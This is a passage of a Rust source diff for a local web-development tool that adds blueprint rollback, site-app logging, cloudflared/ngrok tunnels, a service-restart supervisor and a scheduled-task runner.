-                                    warnings.push(format!("Command '{}' failed: {}", cmd_str, stderr.trim()));
+                                    failures.push(format!("Command '{}' failed: {}", cmd_str, output.error_detail()));
                                 }
                             }
-                            Err(e) => warnings.push(format!("Failed to run '{}': {}", cmd_str, e)),
+                            Err(e) => failures.push(format!("Failed to run '{}': {}", cmd_str, e)),
                         }
                         continue;
                     }
@@ -5120,16 +13139,15 @@ fn tool_create_from_blueprint(
                         cmd.arg(arg);
                     }
                     cmd.current_dir(path);
-                    match cmd.output() {
+                    match run_command(&mut cmd, "scaffold") {
                         Ok(output) => {
-                            if output.status.success() {
+                            if output.success() {
                                 steps.push(format!("Ran: {}", cmd_str));
                             } else {
-                                let stderr = String::from_utf8_lossy(&output.stderr);
-                                warnings.push(format!("Command '{}' failed: {}", cmd_str, stderr.trim()));
+                                failures.push(format!("Command '{}' failed: {}", cmd_str, output.error_detail()));
                             }
                         }
-                        Err(e) => warnings.push(format!("Failed to run '{}': {}", cmd_str, e)),
+                        Err(e) => failures.push(format!("Failed to run '{}': {}", cmd_str, e)),
                     }
                     continue;
                 }
@@ -5145,16 +13163,15 @@ fn tool_create_from_blueprint(
                         cmd.arg(arg);
                     }
                     cmd.current_dir(path);
-                    match cmd.output() {
+                    match run_command(&mut cmd, "scaffold") {
                         Ok(output) => {
-                            if output.status.success() {
+                            if output.success() {
                                 steps.push(format!("Ran: {}", cmd_str));
                             } else {
-                                let stderr = String::from_utf8_lossy(&output.stderr);
-                                warnings.push(format!("Command '{}' failed: {}", cmd_str, stderr.trim()));
+                                failures.push(format!("Command '{}' failed: {}", cmd_str, output.error_detail()));
                             }
                         }
-                        Err(e) => warnings.push(format!("Failed to run '{}': {}", cmd_str, e)),
+                        Err(e) => failures.push(format!("Failed to run '{}': {}", cmd_str, e)),
                     }
                     continue;
                 }
@@ -5187,25 +13204,41 @@ fn tool_create_from_blueprint(
             cmd.env("PATH", format!("{};{}", node_dir.display(), current_path));
         }
 
-        match cmd.output() {
+        match run_command(&mut cmd, "scaffold") {
             Ok(output) => {
-                if output.status.success() {
+                if output.success() {
                     steps.push(format!("Ran: {}", cmd_str));
                 } else {
-                    let stderr = String::from_utf8_lossy(&output.stderr);
-                    warnings.push(format!("Command '{}' failed: {}", cmd_str, stderr.trim()));
+                    failures.push(format!("Command '{}' failed: {}", cmd_str, output.error_detail()));
                 }
             }
-            Err(e) => warnings.push(format!("Failed to run '{}': {}", cmd_str, e)),
+            Err(e) => failures.push(format!("Failed to run '{}': {}", cmd_str, e)),
+        }
+    }
+
+    if !failures.is_empty() {
+        if rollback {
+            // create_site can fail after writing the sites.json row, so check
+            // the store rather than trusting its result
+            let created_site = !site_existed && read_sites_store()
+                .map(|store| store.sites.iter().any(|s| s.domain == domain))
+                .unwrap_or(false);
+            let cleanup = rollback_blueprint_project(domain, created_site, created_dir.then_some(project_path));
+            return Err(serde_json::to_string_pretty(&json!({
+                "blueprint": bp.name,
+                "domain": domain,
+                "status": "rolled_back",
+                "failures": failures,
+                "steps": steps,
+                "cleanup": cleanup
+            })).unwrap());
         }
+        warnings.append(&mut failures);
     }
 
     // Step 7: Write .env if template exists
-    if let Some(env_tpl) = bp.env_template {
-        let db_name = domain.replace('.', "_").replace('-', "_");
-        let env_content = env_tpl
-            .replace("{{domain}}", domain)
-            .replace("{{db_name}}", &db_name);
+    if let Some(env_tpl) = &bp.env_template {
+        let env_content = render_env_template(env_tpl, domain, ssl);
 
         let env_path = project_path.join(".env");
         if !env_path.exists() {
@@ -5217,7 +13250,8 @@ fn tool_create_from_blueprint(
     }
 
     // Step 8: Set dev_command on the site metadata
-    if let Some(dev_cmd) = bp.dev_command {
+    if let Some(dev_cmd) = &bp.dev_command {
+        let _lock = lock_sites_store()?;
         match read_sites_store() {
             Ok(mut store) => {
                 if let Some(site) = store.sites.iter_mut().find(|s| s.domain == domain) {
@@ -5239,6 +13273,8 @@ fn tool_create_from_blueprint(
         "domain": domain,
         "path": path,
         "dev_command": bp.dev_command,
+        "ssl": ssl,
+        "url": format!("{}://{}", if ssl { "https" } else { "http" }, domain),
         "steps": steps,
         "warnings": warnings,
         "status": if warnings.is_empty() { "success" } else { "completed_with_warnings" }
@@ -5253,6 +13289,33 @@ fn get_site_app_pid_dir() -> std::path::PathBuf {
     get_config_dir().join("site-pids")
 }
 
+/// PID of the site's app process if its PID file points at a live process.
+/// A PID file that doesn't (unreadable, or the process died) is removed.
+fn site_app_pid(domain: &str) -> Option<u32> {
+    let pid_file = get_site_app_pid_dir().join(format!("{}.pid", domain));
+    let content = fs::read_to_string(&pid_file).ok()?;
+    match content.trim().parse::<u32>() {
+        Ok(pid) if pid_alive(pid) => Some(pid),
+        _ => {
+            let _ = fs::remove_file(&pid_file);
+            None
+        }
+    }
+}
+
+/// A site app log is moved to `<domain>.log.1` when the app starts and the
+/// log has grown past this
+const SITE_APP_LOG_MAX_BYTES: u64 = 5 * 1024 * 1024;
+
+fn site_app_log_dir() -> PathBuf {
+    get_orbit_data_dir().join("logs").join("site-apps")
+}
+
+/// Where start_site_app sends the dev server's output; also listed by scan_log_files
+fn site_app_log_path(domain: &str) -> PathBuf {
+    site_app_log_dir().join(format!("{}.log", domain))
+}
+
 fn tool_start_site_app(domain: &str) -> Result<String, String> {
     if domain.is_empty() {
         return Err("Domain is required".to_string());
@@ -5273,23 +13336,8 @@ fn tool_start_site_app(domain: &str) -> Result<String, String> {
     // Check if already running
     let pid_dir = get_site_app_pid_dir();
     let pid_file = pid_dir.join(format!("{}.pid", domain));
-    if pid_file.exists() {
-        if let Ok(pid_str) = fs::read_to_string(&pid_file) {
-            if let Ok(pid) = pid_str.trim().parse::<u32>() {
-                // Check if process is still alive
-                let check = hidden_command("tasklist")
-                    .args(&["/FI", &format!("PID eq {}", pid), "/NH"])
-                    .output();
-                if let Ok(output) = check {
-                    let stdout = String::from_utf8_lossy(&output.stdout);
-                    if stdout.contains(&pid.to_string()) {
-                        return Err(format!("Site app for '{}' is already running (PID: {})", domain, pid));
-                    }
-                }
-                // Process not running, clean up stale PID file
-                let _ = fs::remove_file(&pid_file);
-            }
-        }
+    if let Some(pid) = site_app_pid(domain) {
+        return Err(format!("Site app for '{}' is already running (PID: {})", domain, pid));
     }
 
     // Parse command
@@ -5327,35 +13375,256 @@ fn tool_start_site_app(domain: &str) -> Result<String, String> {
         command.env("PORT", port.to_string());
     }
 
-    match command.spawn() {
-        Ok(child) => {
-            let pid = child.id();
+    // Append each run's output to the site's log so a crash can be read afterwards
+    let log_path = site_app_log_path(domain);
+    if let Some(dir) = log_path.parent() {
+        fs::create_dir_all(dir).map_err(|e| format!("Failed to create log dir: {}", e))?;
+    }
+    if fs::metadata(&log_path).is_ok_and(|m| m.len() > SITE_APP_LOG_MAX_BYTES) {
+        let _ = fs::rename(&log_path, log_path.with_extension("log.1"));
+    }
+    let mut log = fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(&log_path)
+        .map_err(|e| format!("Failed to open {}: {}", log_path.display(), e))?;
+    let _ = writeln!(log, "=== {} $ {}", chrono::Local::now().format("%Y-%m-%d %H:%M:%S"), dev_command);
+    let stderr = log.try_clone().map_err(|e| format!("Failed to open log: {}", e))?;
+    command.stdin(std::process::Stdio::null()).stdout(log).stderr(stderr);
+
+    match command.spawn() {
+        Ok(child) => {
+            let pid = child.id();
+
+            // Save PID and log location
+            fs::create_dir_all(&pid_dir).ok();
+            fs::write(&pid_file, pid.to_string()).ok();
+            fs::write(pid_dir.join(format!("{}.log-path", domain)), log_path.to_string_lossy().as_bytes()).ok();
+
+            Ok(serde_json::to_string_pretty(&json!({
+                "domain": domain,
+                "dev_command": dev_command,
+                "pid": pid,
+                "log": log_path.to_string_lossy(),
+                "status": "started"
+            })).unwrap())
+        }
+        Err(e) => Err(format!("Failed to start site app: {}", e)),
+    }
+}
+
+fn tool_stop_site_app(domain: &str) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
+    }
+
+    let pid_dir = get_site_app_pid_dir();
+    let pid_file = pid_dir.join(format!("{}.pid", domain));
+
+    if !pid_file.exists() {
+        return Err(format!("No running app process for site '{}'", domain));
+    }
+
+    let pid_str = fs::read_to_string(&pid_file)
+        .map_err(|e| format!("Failed to read PID file: {}", e))?;
+    let pid = pid_str.trim().parse::<u32>()
+        .map_err(|_| "Invalid PID in file".to_string())?;
+
+    // Kill the process tree
+    let _ = hidden_command("taskkill")
+        .args(&["/F", "/PID", &pid.to_string(), "/T"])
+        .output();
+
+    // Clean up PID file; the log (and its .log-path pointer) stay for site_app_log
+    let _ = fs::remove_file(&pid_file);
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "domain": domain,
+        "pid": pid,
+        "status": "stopped"
+    })).unwrap())
+}
+
+fn tool_site_app_log(domain: &str, lines: usize) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
+    }
+    check_domain_name(domain)?;
+    if !read_sites_store()?.sites.iter().any(|s| s.domain == domain) {
+        return Err(format!("Site '{}' not found", domain));
+    }
+
+    let log_path = fs::read_to_string(get_site_app_pid_dir().join(format!("{}.log-path", domain)))
+        .map(|p| PathBuf::from(p.trim()))
+        .unwrap_or_else(|_| site_app_log_path(domain));
+    let no_log = || format!("No app log for site '{}' yet. Start it with start_site_app first.", domain);
+    // The pointer file is plain text in config/; never follow it out of the log dir
+    let log_path = fs::canonicalize(&log_path).map_err(|_| no_log())?;
+    let log_dir = fs::canonicalize(site_app_log_dir()).map_err(|_| no_log())?;
+    if !log_path.starts_with(&log_dir) {
+        return Err(format!("App log path for '{}' points outside {}", domain, log_dir.display()));
+    }
+    let content = fs::read_to_string(&log_path).map_err(|_| no_log())?;
+
+    let all_lines: Vec<&str> = content.lines().collect();
+    let start = all_lines.len().saturating_sub(lines);
+    Ok(format!("--- {} (last {} lines, {} total) ---\n{}",
+        log_path.display(),
+        all_lines.len() - start,
+        all_lines.len(),
+        all_lines[start..].join("\n")
+    ))
+}
+
+// ─── Tunnel Tools ────────────────────────────────────────────────
+
+fn get_tunnel_pid_dir() -> std::path::PathBuf {
+    get_config_dir().join("tunnel-pids")
+}
+
+/// Installed tunnel client: cloudflared (quick tunnels need no account) or ngrok
+fn find_tunnel_binary() -> Option<(&'static str, PathBuf)> {
+    let bin_dir = get_bin_dir();
+    ["cloudflared", "ngrok"].into_iter()
+        .map(|name| {
+            let exe = if cfg!(windows) { format!("{}.exe", name) } else { name.to_string() };
+            (name, bin_dir.join(name).join(exe))
+        })
+        .find(|(_, path)| path.exists())
+}
+
+/// Public URL from tunnel log output. cloudflared prints a *.trycloudflare.com
+/// banner, ngrok logs `url=https://...` once the tunnel is up.
+fn parse_tunnel_url(provider: &str, output: &str) -> Option<String> {
+    let host_marker = if provider == "cloudflared" { ".trycloudflare.com" } else { "ngrok" };
+    output.match_indices("https://")
+        .map(|(start, _)| {
+            output[start..]
+                .split(|c: char| c.is_whitespace() || c == '|' || c == '"')
+                .next()
+                .unwrap_or("")
+        })
+        .find(|url| url.contains(host_marker) && !url.contains("api.trycloudflare.com"))
+        .map(|url| url.to_string())
+}
+
+/// Whether `pid` is still a tunnel client (not exited, and not a reused PID)
+fn is_tunnel_process(pid: u32) -> bool {
+    let mut sys = sysinfo::System::new();
+    let sys_pid = sysinfo::Pid::from_u32(pid);
+    sys.refresh_processes(sysinfo::ProcessesToUpdate::Some(&[sys_pid]), true);
+    sys.process(sys_pid).is_some_and(|p| {
+        let name = p.name().to_string_lossy().to_lowercase();
+        name.contains("cloudflared") || name.contains("ngrok")
+    })
+}
+
+/// Upstream URL and client arguments for a tunnel to the site's vhost. The
+/// site's Host header (and, over TLS, its SNI name) makes nginx/Apache route
+/// to the right site. SSL sites listen with TLS only, so the upstream is
+/// https; its mkcert certificate isn't one the tunnel client trusts.
+fn tunnel_args(provider: &str, domain: &str, port: u16, ssl: bool) -> (String, Vec<String>) {
+    let local_url = format!("{}://127.0.0.1:{}", if ssl { "https" } else { "http" }, port);
+    let mut args: Vec<String> = if provider == "cloudflared" {
+        vec!["tunnel".into(), "--no-autoupdate".into(), "--url".into(), local_url.clone(), "--http-host-header".into(), domain.into()]
+    } else {
+        // ngrok doesn't verify the upstream certificate
+        vec!["http".into(), local_url.clone(), format!("--host-header={}", domain), "--log".into(), "stdout".into()]
+    };
+    if provider == "cloudflared" && ssl {
+        args.extend(["--no-tls-verify".into(), "--origin-server-name".into(), domain.into()]);
+    }
+    (local_url, args)
+}
+
+/// ngrok auth token saved in the app's Settings (.settings.json)
+fn ngrok_auth_token() -> Option<String> {
+    let content = fs::read_to_string(get_orbit_data_dir().join(".settings.json")).ok()?;
+    let settings: Value = serde_json::from_str(&content).ok()?;
+    settings["ngrokAuthToken"].as_str().map(str::trim).filter(|t| !t.is_empty()).map(String::from)
+}
+
+fn tool_tunnel_start(domain: &str) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
+    }
+
+    let store = read_sites_store()?;
+    let site = store.sites.iter().find(|s| s.domain == domain)
+        .ok_or_else(|| format!("Site '{}' not found", domain))?;
+
+    let (provider, exe) = find_tunnel_binary().ok_or_else(|| format!(
+        "No tunnel client installed. Install ngrok from the Services tab, or place cloudflared at {}",
+        get_bin_dir().join("cloudflared").join(if cfg!(windows) { "cloudflared.exe" } else { "cloudflared" }).display()
+    ))?;
+
+    let pid_dir = get_tunnel_pid_dir();
+    let pid_file = pid_dir.join(format!("{}.pid", domain));
+    let log_file = pid_dir.join(format!("{}.log", domain));
+    if let Some(pid) = fs::read_to_string(&pid_file).ok().and_then(|p| p.trim().parse::<u32>().ok()) {
+        if is_tunnel_process(pid) {
+            return Err(format!("Tunnel for '{}' is already running (PID: {})", domain, pid));
+        }
+        let _ = fs::remove_file(&pid_file);
+    }
+
+    // SSL vhosts listen on 443 whatever the stored port
+    let port = if site.ssl_enabled { 443 } else { site.port };
+    let (local_url, args) = tunnel_args(provider, domain, port, site.ssl_enabled);
+    let mut command = hidden_command(&exe);
+    command.args(&args);
+    if provider == "ngrok" {
+        // The token saved in Settings; without one ngrok falls back to its own config
+        if let Some(token) = ngrok_auth_token() {
+            command.env("NGROK_AUTHTOKEN", token);
+        }
+    }
+
+    // Log to a file rather than a pipe so the tunnel outlives this server
+    fs::create_dir_all(&pid_dir).map_err(|e| format!("Failed to create tunnel PID dir: {}", e))?;
+    let log = fs::File::create(&log_file).map_err(|e| format!("Failed to create tunnel log: {}", e))?;
+    let log_err = log.try_clone().map_err(|e| format!("Failed to create tunnel log: {}", e))?;
+    command.stdout(log).stderr(log_err);
 
-            // Save PID to file
-            fs::create_dir_all(&pid_dir).ok();
-            fs::write(&pid_file, pid.to_string()).ok();
+    let mut child = command.spawn().map_err(|e| format!("Failed to start {}: {}", provider, e))?;
+    let pid = child.id();
+    fs::write(&pid_file, pid.to_string()).map_err(|e| format!("Failed to write PID file: {}", e))?;
 
-            Ok(serde_json::to_string_pretty(&json!({
+    for _ in 0..80 {
+        let output = fs::read_to_string(&log_file).unwrap_or_default();
+        if let Some(url) = parse_tunnel_url(provider, &output) {
+            return Ok(serde_json::to_string_pretty(&json!({
                 "domain": domain,
-                "dev_command": dev_command,
+                "provider": provider,
+                "local_url": local_url,
+                "public_url": url,
                 "pid": pid,
+                "log": log_file.to_string_lossy(),
                 "status": "started"
-            })).unwrap())
+            })).unwrap());
         }
-        Err(e) => Err(format!("Failed to start site app: {}", e)),
+        if let Ok(Some(status)) = child.try_wait() {
+            let _ = fs::remove_file(&pid_file);
+            let tail: Vec<&str> = output.lines().rev().take(10).collect::<Vec<_>>().into_iter().rev().collect();
+            return Err(format!("{} exited ({}) before the tunnel came up:\n{}", provider, status, tail.join("\n")));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(250));
     }
+
+    kill_pid(pid);
+    let _ = fs::remove_file(&pid_file);
+    Err(format!("Timed out waiting for the {} public URL. See {}", provider, log_file.display()))
 }
 
-fn tool_stop_site_app(domain: &str) -> Result<String, String> {
+fn tool_tunnel_stop(domain: &str) -> Result<String, String> {
     if domain.is_empty() {
         return Err("Domain is required".to_string());
     }
+    check_domain_name(domain)?;
 
-    let pid_dir = get_site_app_pid_dir();
-    let pid_file = pid_dir.join(format!("{}.pid", domain));
-
+    let pid_file = get_tunnel_pid_dir().join(format!("{}.pid", domain));
     if !pid_file.exists() {
-        return Err(format!("No running app process for site '{}'", domain));
+        return Err(format!("No running tunnel for site '{}'", domain));
     }
 
     let pid_str = fs::read_to_string(&pid_file)
@@ -5363,18 +13632,17 @@ fn tool_stop_site_app(domain: &str) -> Result<String, String> {
     let pid = pid_str.trim().parse::<u32>()
         .map_err(|_| "Invalid PID in file".to_string())?;
 
-    // Kill the process tree
-    let _ = hidden_command("taskkill")
-        .args(&["/F", "/PID", &pid.to_string(), "/T"])
-        .output();
-
-    // Clean up PID file
+    // Only kill the PID if it still belongs to a tunnel client
+    let was_running = is_tunnel_process(pid);
+    if was_running && !kill_pid(pid) {
+        return Err(format!("Failed to stop tunnel process (PID: {})", pid));
+    }
     let _ = fs::remove_file(&pid_file);
 
     Ok(serde_json::to_string_pretty(&json!({
         "domain": domain,
         "pid": pid,
-        "status": "stopped"
+        "status": if was_running { "stopped" } else { "not running" }
     })).unwrap())
 }
 
@@ -5862,6 +14130,399 @@ fn chrono_now() -> String {
     format!("{}", now.as_secs())
 }
 
+// ─── Watch Supervisor (shared with cli.rs) ───────────────────────
+
+/// Seconds between supervisor checks
+const WATCH_INTERVAL_SECS: u64 = 10;
+/// Restarts in a row before the supervisor gives up on a service
+const WATCH_MAX_RESTARTS: u32 = 5;
+/// Wait before the second restart; doubles with each further one
+const WATCH_BACKOFF_BASE_SECS: u64 = 5;
+const WATCH_BACKOFF_MAX_SECS: u64 = 300;
+/// A service that stays up this long after a restart has its count cleared
+const WATCH_STABLE_SECS: u64 = 600;
+
+/// config/watch.json: which services to keep alive and how often each was restarted
+#[derive(Serialize, Deserialize, Default)]
+struct WatchConfig {
+    #[serde(default)]
+    services: Vec<String>,
+    #[serde(default)]
+    restarts: std::collections::HashMap<String, WatchRestarts>,
+}
+
+#[derive(Serialize, Deserialize, Default, Clone)]
+struct WatchRestarts {
+    count: u32,
+    /// Unix seconds of the last restart
+    last: u64,
+}
+
+fn read_watch_config() -> WatchConfig {
+    fs::read_to_string(get_config_dir().join("watch.json"))
+        .ok()
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or_default()
+}
+
+fn write_watch_config(config: &WatchConfig) -> Result<(), String> {
+    let path = get_config_dir().join("watch.json");
+    if let Some(dir) = path.parent() {
+        let _ = fs::create_dir_all(dir);
+    }
+    let content = serde_json::to_string_pretty(config).unwrap_or_default();
+    fs::write(&path, content).map_err(|e| format!("Failed to write watch.json: {}", e))
+}
+
+/// Delay required since the last restart before trying again
+fn watch_backoff_secs(count: u32) -> u64 {
+    if count == 0 {
+        return 0;
+    }
+    (WATCH_BACKOFF_BASE_SECS << (count - 1).min(16)).min(WATCH_BACKOFF_MAX_SECS)
+}
+
+fn watch_log(message: &str) {
+    eprintln!("[watch {}] {}", chrono::Local::now().format("%H:%M:%S"), message);
+}
+
+/// config/watch.pid names the one process whose supervisor acts, so `orbit
+/// watch` and the orbit-mcp standby loop never both restart a service. Takes
+/// the lock when it is free or its holder has exited.
+fn claim_watch_lock() -> bool {
+    let path = get_config_dir().join("watch.pid");
+    let me = std::process::id();
+    for _ in 0..2 {
+        match fs::OpenOptions::new().write(true).create_new(true).open(&path) {
+            Ok(mut file) => {
+                use std::io::Write;
+                return write!(file, "{}", me).is_ok();
+            }
+            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
+                match fs::read_to_string(&path).ok().and_then(|c| c.trim().parse::<u32>().ok()) {
+                    Some(pid) if pid == me => return true,
+                    Some(pid) if pid_alive(pid) => return false,
+                    // Empty: another watcher is between creating and writing it
+                    None if fs::metadata(&path).and_then(|m| m.modified()).is_ok_and(|t| t.elapsed().unwrap_or_default().as_secs() < WATCH_INTERVAL_SECS) => return false,
+                    _ => {
+                        let _ = fs::remove_file(&path);
+                    }
+                }
+            }
+            Err(_) => return false,
+        }
+    }
+    false
+}
+
+/// One supervisor pass over the watched set in config/watch.json. Only a
+/// crash counts: the service still has its config/session.json entry but the
+/// process is gone. Every stop path (orbit stop, the app, stop_service)
+/// removes the entry, so a service stopped on purpose stays down, and one
+/// Orbit never started isn't started. `given_up` holds services past
+/// WATCH_MAX_RESTARTS until they run again.
+fn watch_tick(given_up: &mut std::collections::HashSet<String>, bin_dir: &PathBuf) {
+    let mut config = read_watch_config();
+    if config.services.is_empty() || !claim_watch_lock() {
+        return;
+    }
+    given_up.retain(|name| config.services.contains(name));
+
+    let services = scan_services_cached(bin_dir);
+    let now = chrono::Utc::now().timestamp().max(0) as u64;
+    let mut changed = false;
+
+    for name in config.services.clone() {
+        if is_service_running(&name) {
+            let stable = config.restarts.get(&name).is_some_and(|r| now.saturating_sub(r.last) >= WATCH_STABLE_SECS);
+            if stable {
+                config.restarts.remove(&name);
+                changed = true;
+                watch_log(&format!("{} has been up for {}s, restart count cleared", name, WATCH_STABLE_SECS));
+            }
+            given_up.remove(&name);
+            continue;
+        }
+        if session_entry(&name).is_none() || given_up.contains(&name) {
+            continue;
+        }
+
+        let restarts = config.restarts.get(&name).cloned().unwrap_or_default();
+        if restarts.count >= WATCH_MAX_RESTARTS {
+            watch_log(&format!(
+                "{} is down, giving up after {} restarts; start it by hand once fixed",
+                name, restarts.count
+            ));
+            given_up.insert(name);
+            continue;
+        }
+        let wait = watch_backoff_secs(restarts.count);
+        if now < restarts.last + wait {
+            watch_log(&format!("{} is down, next restart in {}s", name, restarts.last + wait - now));
+            continue;
+        }
+        let Some(svc) = services.iter().find(|s| s.name == name) else {
+            watch_log(&format!("{} is down and no longer installed, not restarting", name));
+            given_up.insert(name);
+            continue;
+        };
+
+        watch_log(&format!("{} crashed, restarting (attempt {}/{})", name, restarts.count + 1, WATCH_MAX_RESTARTS));
+        match start_service_process(svc) {
+            Ok(pid) => watch_log(&format!("{} restarted (PID {})", name, pid)),
+            Err(e) => watch_log(&format!("{} restart failed: {}", name, e)),
+        }
+        config.restarts.insert(name, WatchRestarts { count: restarts.count + 1, last: now });
+        changed = true;
+    }
+
+    if changed {
+        if let Err(e) = write_watch_config(&config) {
+            watch_log(&e);
+        }
+    }
+}
+
+// ─── Scheduled Tasks (shared with cli.rs) ────────────────────────
+
+/// A task log is moved to `<name>.log.1` once it grows past this
+const CRON_LOG_MAX_BYTES: u64 = 1024 * 1024;
+
+/// An entry of config/cron.json: a site command run on a fixed interval,
+/// e.g. Laravel's `php artisan schedule:run` every 60 seconds
+#[derive(Serialize, Deserialize, Clone)]
+struct ScheduledTask {
+    name: String,
+    command: String,
+    interval_secs: u64,
+    working_dir: String,
+    /// Unix seconds of the last run (or skipped run)
+    #[serde(default)]
+    last_run: Option<u64>,
+    /// PID and process start time of the last invocation, so any runner can
+    /// tell whether it is still going without trusting a recycled PID
+    #[serde(default)]
+    last_pid: Option<u32>,
+    #[serde(default)]
+    last_pid_started_at: Option<u64>,
+}
+
+fn read_scheduled_tasks() -> Vec<ScheduledTask> {
+    fs::read_to_string(get_config_dir().join("cron.json"))
+        .ok()
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or_default()
+}
+
+/// Hold this across a read-modify-write of cron.json
+fn lock_cron_store() -> Result<FileLock, String> {
+    FileLock::acquire(&get_config_dir().join("cron.json.lock"))
+}
+
+fn write_scheduled_tasks(tasks: &[ScheduledTask]) -> Result<(), String> {
+    let path = get_config_dir().join("cron.json");
+    if let Some(dir) = path.parent() {
+        let _ = fs::create_dir_all(dir);
+    }
+    let content = serde_json::to_string_pretty(tasks).unwrap_or_default();
+    fs::write(&path, content).map_err(|e| format!("Failed to write cron.json: {}", e))
+}
+
+fn scheduled_task_due(task: &ScheduledTask, now: u64) -> bool {
+    task.last_run.map_or(true, |last| now >= last + task.interval_secs)
+}
+
+/// logs/cron/<name>.log
+fn scheduled_task_log_path(name: &str) -> PathBuf {
+    get_orbit_data_dir().join("logs").join("cron").join(format!("{}.log", name))
+}
+
+fn process_start_time(pid: u32) -> Option<u64> {
+    let mut sys = sysinfo::System::new();
+    let sys_pid = sysinfo::Pid::from_u32(pid);
+    sys.refresh_processes(sysinfo::ProcessesToUpdate::Some(&[sys_pid]), true);
+    sys.process(sys_pid).map(|p| p.start_time())
+}
+
+/// Whether the last invocation (possibly started by another runner) is alive
+fn scheduled_task_running(task: &ScheduledTask) -> bool {
+    match (task.last_pid, task.last_pid_started_at) {
+        (Some(pid), Some(started_at)) => process_start_time(pid).is_some_and(|t| t.abs_diff(started_at) <= 1),
+        _ => false,
+    }
+}
+
+/// Run the command through the shell in its working dir, appending output to its log
+fn spawn_scheduled_task(task: &ScheduledTask) -> Result<std::process::Child, String> {
+    let log_path = scheduled_task_log_path(&task.name);
+    if let Some(dir) = log_path.parent() {
+        fs::create_dir_all(dir).map_err(|e| format!("Failed to create log dir: {}", e))?;
+    }
+    if fs::metadata(&log_path).is_ok_and(|m| m.len() > CRON_LOG_MAX_BYTES) {
+        let _ = fs::rename(&log_path, log_path.with_extension("log.1"));
+    }
+    let mut log = fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(&log_path)
+        .map_err(|e| format!("Failed to open {}: {}", log_path.display(), e))?;
+    let _ = writeln!(log, "=== {} $ {}", chrono::Local::now().format("%Y-%m-%d %H:%M:%S"), task.command);
+    let stderr = log.try_clone().map_err(|e| e.to_string())?;
+
+    #[cfg(target_os = "windows")]
+    let (shell, flag) = ("cmd", "/C");
+    #[cfg(not(target_os = "windows"))]
+    let (shell, flag) = ("sh", "-c");
+
+    // Orbit's PHP, Node, Composer... first, so `php artisan schedule:run`
+    // works without them on the system PATH
+    let inherited = std::env::var_os("PATH").unwrap_or_default();
+    let dirs = orbit_path_dirs(&get_bin_dir()).into_iter().chain(std::env::split_paths(&inherited));
+    let path = std::env::join_paths(dirs).unwrap_or(inherited);
+
+    let shell = PathBuf::from(shell);
+    hidden_command(&shell)
+        .arg(flag)
+        .arg(&task.command)
+        .current_dir(&task.working_dir)
+        .env("PATH", path)
+        .stdin(std::process::Stdio::null())
+        .stdout(log)
+        .stderr(stderr)
+        .spawn()
+        .map_err(|e| e.to_string())
+}
+
+fn cron_log(message: &str) {
+    eprintln!("[cron {}] {}", chrono::Local::now().format("%H:%M:%S"), message);
+}
+
+/// Start every due task in config/cron.json that isn't still running from its
+/// previous run. `running` holds the children this runner started so they get
+/// reaped; a one-shot runner can pass an empty map. Returns the names of the
+/// tasks it started.
+fn cron_tick(running: &mut std::collections::HashMap<String, std::process::Child>) -> Vec<String> {
+    running.retain(|_, child| matches!(child.try_wait(), Ok(None)));
+
+    // The app, orbit-cli and MCP tools edit cron.json too
+    let _lock = match lock_cron_store() {
+        Ok(lock) => lock,
+        Err(e) => {
+            cron_log(&e);
+            return Vec::new();
+        }
+    };
+    let mut tasks = read_scheduled_tasks();
+    let now = chrono::Utc::now().timestamp().max(0) as u64;
+    let mut changed = false;
+    let mut started = Vec::new();
+
+    for task in tasks.iter_mut().filter(|t| scheduled_task_due(t, now)) {
+        // The slot is used up either way, like cron skipping an overlapping run
+        task.last_run = Some(now);
+        changed = true;
+
+        if running.contains_key(&task.name) || scheduled_task_running(task) {
+            cron_log(&format!("{} is still running, skipping this run", task.name));
+            continue;
+        }
+        match spawn_scheduled_task(task) {
+            Ok(child) => {
+                cron_log(&format!("{} started (PID {})", task.name, child.id()));
+                task.last_pid = Some(child.id());
+                task.last_pid_started_at = process_start_time(child.id());
+                running.insert(task.name.clone(), child);
+                started.push(task.name.clone());
+            }
+            Err(e) => cron_log(&format!("{} failed to start: {}", task.name, e)),
+        }
+    }
+
+    if changed {
+        if let Err(e) = write_scheduled_tasks(&tasks) {
+            cron_log(&e);
+        }
+    }
+    started
+}
+
+// ─── Scheduled Task Tools ────────────────────────────────────────
+
+/// Shortest task interval; the orbit-mcp standby loop checks for due tasks this often
+const CRON_MIN_INTERVAL_SECS: u64 = WATCH_INTERVAL_SECS;
+
+fn validate_scheduled_task(name: &str, command: &str, interval_secs: u64, working_dir: &str) -> Result<(), String> {
+    // The name becomes a log file name
+    if name.is_empty() || name.len() > 64 || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_') {
+        return Err("Task name must be 1-64 letters, digits, '-' or '_'".to_string());
+    }
+    if command.trim().is_empty() {
+        return Err("Command is required".to_string());
+    }
+    if interval_secs < CRON_MIN_INTERVAL_SECS {
+        return Err(format!("Interval must be at least {} seconds", CRON_MIN_INTERVAL_SECS));
+    }
+    let dir = std::path::Path::new(working_dir);
+    if !dir.is_absolute() || !dir.is_dir() {
+        return Err(format!("Working directory must be an existing absolute path: {}", working_dir));
+    }
+    Ok(())
+}
+
+fn tool_add_scheduled_task(name: &str, command: &str, interval_secs: u64, working_dir: &str) -> Result<String, String> {
+    validate_scheduled_task(name, command, interval_secs, working_dir)?;
+
+    let _lock = lock_cron_store()?;
+    let mut tasks = read_scheduled_tasks();
+    let previous = tasks.iter().position(|t| t.name == name).map(|i| tasks.remove(i));
+    let replaced = previous.is_some();
+    tasks.push(ScheduledTask {
+        name: name.to_string(),
+        command: command.to_string(),
+        interval_secs,
+        working_dir: working_dir.to_string(),
+        last_run: previous.as_ref().and_then(|t| t.last_run),
+        last_pid: previous.as_ref().and_then(|t| t.last_pid),
+        last_pid_started_at: previous.and_then(|t| t.last_pid_started_at),
+    });
+    write_scheduled_tasks(&tasks)?;
+
+    Ok(format!(
